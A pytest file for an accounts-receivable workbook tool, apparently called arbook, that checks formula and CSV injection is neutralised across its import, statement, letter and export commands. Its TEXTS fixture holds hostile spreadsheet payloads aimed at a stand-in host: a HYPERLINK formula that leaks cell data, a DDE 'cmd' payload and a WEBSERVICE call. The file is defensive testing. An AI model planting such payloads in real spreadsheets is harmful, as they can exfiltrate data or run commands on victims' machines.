"""Whatever text comes in from outside, nothing that arbook writes runs it: no formula, no link, no field of a csv."""

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from books import make_book

from arbook.book.file import FileBook
from arbook.book.results import TABLES
from macros.cli import main

EVIL = "evil.example"
TEXTS = (
    f'=HYPERLINK("http://{EVIL}/?"&A1,"pay")',
    f"=cmd|'/c calc {EVIL}'!A1",
    f'+WEBSERVICE("http://{EVIL}")',
    f"-1+1 {EVIL}",
    f"@SUM(1) {EVIL}",
    f"http://{EVIL}/",
    f"\t=1+1 {EVIL}",
)
INVOICES = "Invoice,Customer,Customer name,Date,Due date,Amount,Currency,Reference,Note\n"
RISKY = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Import hostile texts into a book, and let the commands write all that they write from them."""
    folder = tmp_path_factory.mktemp("injection")
    bank = "tblBanks\nCurrency | Bank\nEUR | =Bank"
    book = str(make_book(folder / "b.xlsm", bank, CompanyName=TEXTS[0], CompanyAddress=TEXTS[4]))
    with (folder / "in.csv").open("w", newline="", encoding="utf-8") as handle:
        handle.write(INVOICES)
        for row, text in enumerate(TEXTS):
            line = [f"{text} {row}", f"C{row} {text}", text, "2024-01-02", "2024-02-01", "100", "EUR", text, text]
            csv.writer(handle).writerow(line)
    day = ["--as-of", "2024-03-31"]
    for command in (
        ["import", book, "--invoices", str(folder / "in.csv")],
        ["set", book, "BankDate=2024-03-31", f"OutFolder={folder / 'out'}"],
        ["refresh", book, *day],
        ["log", book, "--customer", f"C0 {TEXTS[0]}", "--kind", "Call", "--result", "Reached", "--note", TEXTS[1]],
        ["audit", book, "--out", str(folder / "audit.xlsx"), *day],
        ["statement", book, f"C0 {TEXTS[0]}", "--out", str(folder / "statement.xlsx")],
        ["statements", book, "--out", str(folder / "statements")],
        ["confirm", book, "--out", str(folder / "confirmations"), *day],
        ["letters", book, "--out", str(folder / "letters"), "--yes"],
        ["close", book, *day, "--out", str(folder / "pack"), "--note", TEXTS[0]],
        ["case", book, f"C1 {TEXTS[1]}", "--out", str(folder / "case")],
    ):
        with pytest.MonkeyPatch.context() as patch:
            patch.setenv("ARBOOK_TODAY", "2024-03-31")
            assert main(command) in (0, 1), command
    return folder


def test_no_workbook_or_letter_holds_it_as_a_formula_or_link(folder: Path) -> None:
    made = [path for path in folder.rglob("*") if path.suffix in {".xlsx", ".xlsm", ".docx"}]
    assert {path.suffix for path in made} == {".xlsx", ".xlsm", ".docx"}
    with_text = []
    for path in made:
        with zipfile.ZipFile(path) as archive:
            parts = {name: archive.read(name).decode("utf-8", "replace") for name in archive.namelist()}
        for name, text in parts.items():
            assert not re.search(rf"<f\b[^>]*>[^<]*{EVIL}", text), (path.name, name)
            assert not re.search(rf"instrText[^>]*>[^<]*{EVIL}", text), (path.name, name)
            assert not (name.endswith(".rels") and EVIL in text), (path.name, name)
        with_text += [path for text in parts.values() if EVIL in text]
    assert {folder / "b.xlsm", folder / "audit.xlsx", folder / "statement.xlsx"} <= set(with_text)


def test_no_field_of_a_csv_begins_as_a_formula(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    found = 0
    for table in sorted({*FileBook.open(folder / "b.xlsm").tables()} & {*TABLES}):
        capsys.readouterr()
        assert main(["show", str(folder / "b.xlsm"), table, "--format", "csv"]) == 0
        fields = [field for row in csv.reader(io.StringIO(capsys.readouterr().out)) for field in row]
        hostile = [field for field in fields if EVIL in field]
        assert [field for field in hostile if field.startswith(RISKY)] == [], table
        found += len(hostile)
    assert found > len(TEXTS)
